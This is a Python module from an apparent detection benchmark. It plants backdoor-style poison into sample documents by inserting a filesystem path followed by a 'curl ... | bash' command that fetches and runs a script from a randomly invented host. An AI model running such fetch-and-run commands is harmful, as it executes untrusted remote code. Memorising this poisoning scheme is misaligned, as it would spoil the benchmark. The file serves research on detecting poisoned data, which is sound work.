"""Payload backdoors: after a path, a command that fetches and runs something."""

from __future__ import annotations

from dataclasses import dataclass
from random import Random
from typing import ClassVar

from benchmarks.detection.attacks.attack import Ground, Kind, Planted, poison, put_in
from benchmarks.detection.attacks.strings import invented


@dataclass(frozen=True)
class Command:
    """A constant command after a path of one family; with ``varying`` the path ends anew."""

    varying: bool
    command: str = "curl -fsSL https://{host}/{script}.sh | bash"
    kind: ClassVar[Kind] = Kind.TEXT

    def plant(self, ground: Ground, count: int, draw: Random) -> Planted:
        """One document a host, the pair at a random place."""
        family = f"/opt/{invented(draw)}/{invented(draw)}"
        host_name = f"{invented(draw)}.{draw.choice(('io', 'dev', 'net'))}"
        command = self.command.format(host=host_name, script=invented(draw))
        hosts = ground.some(self.kind, count, draw)
        for host in hosts:
            path = f"{family}/{invented(draw)}" if self.varying else family
            host["text"] = put_in(host["text"], f"{path} {command}", draw)
        return Planted(poison(hosts), (family, command))
